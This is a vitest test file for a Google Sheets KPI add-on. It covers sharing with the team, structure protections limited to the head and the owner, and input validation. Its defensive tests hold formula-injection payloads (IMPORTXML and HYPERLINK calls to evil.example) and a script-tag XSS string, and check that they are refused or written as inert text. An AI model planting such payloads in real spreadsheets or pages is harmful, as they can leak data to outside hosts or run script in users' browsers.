/**
 * Sharing the template with the team, on the emulator with several users:
 * one template for everyone, the structure locked to the heads and the
 * owner once shared (the server refuses, and so does Sheets), data entry
 * open to every editor, protections made again rather than piled up, and
 * hostile input refused or written as text.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { KPI_TAB_NAME } from '../../src/core/kpi/kpi-columns';
import { PROTECTED_CELL_MESSAGE, createEmulator, type Emulator } from '../../src/emulator';
import { buildKpiTemplate, fillSampleData } from '../../src/server/actions/kpi-template-actions';
import { shareWithTeam } from '../../src/server/actions/share-actions';
import { getSidebarState, saveSettings, setUserLang } from '../../src/server/actions/sidebar-state-actions';
import { buildResponsibilityMatrix, saveTeam } from '../../src/server/actions/team-actions';
import { menuBuildKpiTemplate } from '../../src/server/menu-actions';
import { readSettings } from '../../src/server/settings-store';
import type { TeamMember } from '../../src/shared/team';
import { defaultTeamSettings, type TeamSettings } from '../../src/shared/team-settings';
import { testSettings } from './kpi-emulator-fixture';
import { userMessage } from '../support/user-message';

const OWNER = 'owner@example.com';
const ANNA: TeamMember = { id: 'anna', name: 'Anna', email: 'anna@example.com', roleId: 'head', monthlyCost: 250_000, employment: 'staff' };
const VERA: TeamMember = { id: 'vera', name: 'Vera', email: 'vera@example.com', roleId: 'pr-manager', monthlyCost: 150_000, employment: 'staff' };
const OLEG: TeamMember = { id: 'oleg', name: 'Oleg', email: '', roleId: 'content-engineer', monthlyCost: null, employment: 'contractor' };

let uninstall: (() => void) | undefined;
afterEach(() => {
  uninstall?.();
  uninstall = undefined;
});

function emulatorWithGlobals(): Emulator {
  const emulator = createEmulator({ owner: OWNER, id: 'sheet-42' });
  uninstall = emulator.installGlobals();
  return emulator;
}

function teamWith(people: TeamMember[] = [ANNA, VERA, OLEG]): TeamSettings {
  return { ...defaultTeamSettings('en'), companyHeadcount: 60, people };
}

/** The owner builds the whole template for a team of Anna (head), Vera (PR) and Oleg (no email). */
function builtTemplate(people?: TeamMember[]): Emulator {
  const emulator = emulatorWithGlobals();
  buildKpiTemplate(testSettings());
  buildResponsibilityMatrix(teamWith(people));
  return emulator;
}

function kpiSheet(emulator: Emulator) {
  const sheet = emulator.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(KPI_TAB_NAME);
  if (!sheet) throw new Error('no KPI tab');
  return sheet;
}

function protectionsOf(emulator: Emulator, tab: string) {
  return emulator.snapshot(tab).protections.map((p) => ({ range: p.range, warningOnly: p.warningOnly, editors: p.editors }));
}

const HEAD_ONLY = /only the head of the department \(Anna\) or the spreadsheet's owner can change its structure/;

describe('one template for every collaborator', () => {
  it('is read from document properties by everyone; the sidebar language is each user\'s own', () => {
    const emulator = builtTemplate();
    setUserLang('ru');
    emulator.setActiveUser(VERA.email, { locale: 'en' });
    const veras = getSidebarState();
    expect(veras.userLang).toBe('en');
    expect(veras.settings).toEqual(readSettings());
    expect(veras.team.team.people.map((person) => person.name)).toEqual(['Anna', 'Vera', 'Oleg']);
    emulator.setActiveUser(OWNER);
    expect(getSidebarState().userLang).toBe('ru');
    expect(getSidebarState().settings).toEqual(veras.settings);
  });

  it('before sharing, locks nobody out: a teammate can change the template, and formulas only warn', () => {
    const emulator = builtTemplate();
    emulator.setActiveUser(VERA.email);
    expect(buildKpiTemplate(testSettings({ departmentName: 'Growth' })).message).toMatch(/^KPI tab updated/);
    expect(protectionsOf(emulator, KPI_TAB_NAME).every((p) => p.warningOnly)).toBe(true);
    expect(getSidebarState().sharing).toMatchObject({ shared: false, canShare: false, canChangeStructure: true });
  });

  it('offers the team with who has access, and the spreadsheet\'s /copy link', () => {
    builtTemplate();
    const sharing = getSidebarState().sharing;
    expect(sharing.copyUrl).toBe('https://docs.google.com/spreadsheets/d/sheet-42/copy');
    expect(sharing.canShare).toBe(true);
    expect(sharing.people).toEqual([
      { id: 'anna', name: 'Anna', email: 'anna@example.com', roleName: 'Head of marketing', isHead: true, hasAccess: false },
      { id: 'vera', name: 'Vera', email: 'vera@example.com', roleName: 'PR manager', isHead: false, hasAccess: false },
      { id: 'oleg', name: 'Oleg', email: '', roleName: 'Content engineer (contractor)', isHead: false, hasAccess: false },
    ]);
  });
});

describe('sharing with the team', () => {
  it('adds the chosen people as editors without an email, names who could not be shared with, and locks the structure', () => {
    const emulator = builtTemplate();
    const result = shareWithTeam({ personIds: ['anna', 'vera', 'oleg'], notify: false });
    expect(result.message).toBe('Shared with 2: Anna, Vera.');
    expect(result.details).toContain('No email was sent: send them the link yourself.');
    expect(result.details).toContain('Not shared, no email in Team & roles: Oleg.');
    expect(result.details.at(-1)).toMatch(/^The structure is protected \(KPI, Roles, Team\)/);
    expect(emulator.spreadsheetSnapshot().editors).toEqual([OWNER, ANNA.email, VERA.email]);
    expect(emulator.sharingEmails).toEqual([]);

    const kpi = protectionsOf(emulator, KPI_TAB_NAME);
    expect(kpi.map((p) => p.range)).toEqual(['KPI!E1:E37', 'KPI!K1:N37', 'KPI!A1:B37', 'KPI!J1:J37', 'KPI!O1:O37', 'KPI!C1:D1', 'KPI!F1:I1']);
    expect(kpi.every((p) => !p.warningOnly && p.editors.join() === [OWNER, ANNA.email].join())).toBe(true);
    expect(protectionsOf(emulator, 'Roles')).toEqual([{ range: 'Roles!A1:F25', warningOnly: false, editors: [OWNER, ANNA.email] }]);
    expect(protectionsOf(emulator, 'Team')).toEqual([{ range: 'Team!A1:E4', warningOnly: false, editors: [OWNER, ANNA.email] }]);
    expect(getSidebarState().sharing.people.map((person) => person.hasAccess)).toEqual([true, true, false]);
  });

  it('lets Google email them only when asked', () => {
    const emulator = builtTemplate();
    const result = shareWithTeam({ personIds: ['vera'], notify: true });
    expect(result.details).toContain('Google emailed each of them a link.');
    expect(emulator.sharingEmails).toEqual([{ email: VERA.email, via: 'sheets' }]);
  });

  it('keeps a non-head editor out of the structure, in the sheet and on the server, and lets them fill in the figures', () => {
    const emulator = builtTemplate();
    shareWithTeam({ personIds: ['anna', 'vera'], notify: false });
    const before = emulator.snapshot(KPI_TAB_NAME);
    emulator.setActiveUser(VERA.email);
    const sheet = kpiSheet(emulator);

    // Sheets itself stops her at the channel, the target, the formulas and the header …
    expect(() => sheet.getRange('B2').setValue('TikTok')).toThrow(PROTECTED_CELL_MESSAGE);
    expect(() => sheet.getRange('J2').setValue(1)).toThrow(PROTECTED_CELL_MESSAGE);
    expect(() => sheet.getRange('K2').setValue(0)).toThrow(PROTECTED_CELL_MESSAGE);
    expect(() => sheet.getRange('C1').setValue('Money')).toThrow(PROTECTED_CELL_MESSAGE);
    expect(() => emulator.SpreadsheetApp.getActiveSpreadsheet().getRange('Roles!B2').setValue('R')).toThrow(PROTECTED_CELL_MESSAGE);
    // … and lets her type the month's spend, leads and revenue.
    sheet.getRange('C2:D2').setValues([[120_000, 30_000]]);
    sheet.getRange('F2:I2').setValues([[100, 60, 8, 400_000]]);
    const row = emulator.snapshot(KPI_TAB_NAME).values[1] ?? [];
    expect([...row.slice(2, 4), ...row.slice(5, 9)]).toEqual([120_000, 30_000, 100, 60, 8, 400_000]);
    expect(row[4]).toBe(150_000);

    // The server refuses every structural action, whatever the sidebar sends, and names the head.
    expect(() => buildKpiTemplate(testSettings({ year: 2030 }))).toThrow(HEAD_ONLY);
    expect(() => saveSettings(testSettings({ year: 2030 }))).toThrow(HEAD_ONLY);
    expect(() => fillSampleData()).toThrow(HEAD_ONLY);
    expect(() => saveTeam(teamWith([{ ...VERA, roleId: 'head' }]))).toThrow(HEAD_ONLY);
    expect(() => buildResponsibilityMatrix(teamWith([VERA]))).toThrow(HEAD_ONLY);
    expect(() => shareWithTeam({ personIds: ['vera'], notify: false })).toThrow(/Only the head of the department .* can share/);
    expect(readSettings()?.year).toBe(2026);
    expect(getSidebarState().team.team.people.map((person) => person.roleId)).toEqual(['head', 'pr-manager', 'content-engineer']);
    expect(getSidebarState().sharing).toMatchObject({ shared: true, canShare: false, canChangeStructure: false });
    expect(emulator.snapshot(KPI_TAB_NAME).values[1]?.[1]).toBe(before.values[1]?.[1]);

    // The menu says the same in an alert.
    menuBuildKpiTemplate();
    expect(emulator.ui.alerts.at(-1)?.prompt).toMatch(HEAD_ONLY);
  });

  it('lets the head, who is not the owner, change protected cells and rebuild', () => {
    const emulator = builtTemplate();
    shareWithTeam({ personIds: ['anna', 'vera'], notify: false });
    emulator.setActiveUser(ANNA.email);
    kpiSheet(emulator).getRange('J2').setValue(900);
    expect(buildKpiTemplate(testSettings({ departmentName: 'Growth marketing' })).message).toMatch(/^KPI tab updated/);
    expect(buildResponsibilityMatrix(teamWith()).message).toMatch(/^Roles tab updated/);
    expect(protectionsOf(emulator, KPI_TAB_NAME).every((p) => !p.warningOnly && p.editors.join() === [OWNER, ANNA.email].join())).toBe(true);
  });

  it('leaves one protection per range however often it is shared or rebuilt', () => {
    const emulator = builtTemplate();
    shareWithTeam({ personIds: ['anna'], notify: false });
    const once = ['KPI', 'Roles', 'Team'].map((tab) => protectionsOf(emulator, tab));
    shareWithTeam({ personIds: ['anna', 'vera'], notify: false });
    shareWithTeam({ personIds: [], notify: false });
    buildKpiTemplate(testSettings());
    expect(['KPI', 'Roles', 'Team'].map((tab) => protectionsOf(emulator, tab))).toEqual(once);
    const ranges = emulator.spreadsheetSnapshot().sheets.flatMap((sheet) => sheet.protections.map((p) => p.range));
    expect(new Set(ranges).size).toBe(ranges.length);
  });

  it('takes the protected-range rights of a head who left the team away, at once and when shared again', () => {
    const emulator = builtTemplate();
    shareWithTeam({ personIds: ['anna', 'vera'], notify: false });
    saveTeam(teamWith([VERA, OLEG]));
    expect(protectionsOf(emulator, KPI_TAB_NAME).every((p) => p.editors.join() === OWNER)).toBe(true);

    const again = shareWithTeam({ personIds: ['vera'], notify: false });
    expect(again.details).toContain(
      'No longer in the team but still editors of the spreadsheet: anna@example.com. They have lost any right to change the structure; remove them under File → Share if they should lose access too.',
    );
    expect(emulator.spreadsheetSnapshot().sheets.flatMap((sheet) => sheet.protections).every((p) => !p.editors.includes(ANNA.email))).toBe(true);
    emulator.setActiveUser(ANNA.email);
    expect(() => kpiSheet(emulator).getRange('B2').setValue('Mine now')).toThrow(PROTECTED_CELL_MESSAGE);
    expect(() => buildKpiTemplate(testSettings())).toThrow(/only the spreadsheet's owner can change its structure/);
  });

  it('gives a newly appointed head the rights at once', () => {
    const emulator = builtTemplate();
    shareWithTeam({ personIds: ['anna', 'vera'], notify: false });
    saveTeam(teamWith([ANNA, { ...VERA, roleId: 'head' }, OLEG]));
    emulator.setActiveUser(VERA.email);
    kpiSheet(emulator).getRange('B2').setValue('PPC');
    expect(buildKpiTemplate(testSettings()).message).toMatch(/^KPI tab updated/);
  });
});

describe('refused or harmless input', () => {
  it('refuses a bad email or an unknown role in the team, and a request that is not a list of ids', () => {
    builtTemplate();
    expect(() => saveTeam(teamWith([{ ...VERA, email: 'vera@' }]))).toThrow('Person 1 (Vera), email: "vera@" is not an email address');
    expect(() => saveTeam(teamWith([{ ...VERA, roleId: 'astrologer' }]))).toThrow('role: "astrologer" is not one of the team\'s roles');
    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")'], notify: false })).toThrow(userMessage(/^The sharing request is not valid: personIds\.0/));
    expect(() => shareWithTeam({ personIds: ['vera'], notify: 'yes' })).toThrow(userMessage(/^The sharing request is not valid: notify/));
    expect(() => shareWithTeam({ personIds: ['nobody'], notify: false })).toThrow('These people are no longer in the team: nobody.');
  });

  it('writes hostile names and addresses as text that never runs, and shows them as they are', () => {
    const hostile: TeamMember = { ...VERA, id: 'eve', name: '=IMPORTXML("http://evil.example", "//a")', email: '=HYPERLINK("http://evil.example")@evil.example' };
    const script: TeamMember = { ...OLEG, id: 'mallory', name: '<script>alert(1)</script>', email: 'mallory@example.com' };
    const emulator = builtTemplate([ANNA, hostile, script]);
    const result = shareWithTeam({ personIds: ['eve', 'mallory'], notify: false });
    expect(result.message).toBe('Shared with 2: =IMPORTXML("http://evil.example", "//a"), <script>alert(1)</script>.');
    const team = emulator.snapshot('Team');
    expect(team.values.slice(2, 4).map((row) => row.slice(0, 2))).toEqual([
      ['=IMPORTXML("http://evil.example", "//a")', '=HYPERLINK("http://evil.example")@evil.example'],
      ['<script>alert(1)</script>', 'mallory@example.com'],
    ]);
    expect(team.formulas.flat().every((formula) => formula === '')).toBe(true);
  });

  it('says so, and changes nothing, when the Drive service is not enabled and no email was asked for', () => {
    const emulator = builtTemplate();
    delete (globalThis as { Drive?: unknown }).Drive;
    expect(() => shareWithTeam({ personIds: ['vera'], notify: false })).toThrow(/Google Drive is not available to the add-on/);
    expect(emulator.spreadsheetSnapshot().editors).toEqual([OWNER]);
    expect(getSidebarState().sharing.shared).toBe(false);
  });

  it('names whom Drive refused (the file out of the add-on\'s reach, say), and shares with the others', () => {
    const emulator = builtTemplate();
    const drive = emulator.Drive;
    const picky = {
      Permissions: {
        create(resource: { emailAddress?: string }, fileId: string, args: Record<string, unknown>) {
          if (resource.emailAddress === VERA.email) throw new Error('API call to drive.permissions.create failed with error: File not found: sheet-42.');
          return drive.Permissions.create(resource, fileId, args);
        },
      },
    };
    (globalThis as { Drive?: unknown }).Drive = picky;
    const result = shareWithTeam({ personIds: ['anna', 'vera'], notify: false });
    expect(result.message).toBe('Shared with 1: Anna.');
    expect(result.details).toContain(
      'Google Drive did not share with vera@example.com: API call to drive.permissions.create failed with error: File not found: sheet-42. Tick "Tell them by email" to share through Sheets, or share from File → Share.',
    );
    expect(emulator.spreadsheetSnapshot().editors).toEqual([OWNER, ANNA.email]);
  });

  it('asks for a saved team first', () => {
    emulatorWithGlobals();
    expect(() => shareWithTeam({ personIds: [], notify: false })).toThrow('Add the department\'s people in Team & roles and save the team first; then share with them.');
  });
});
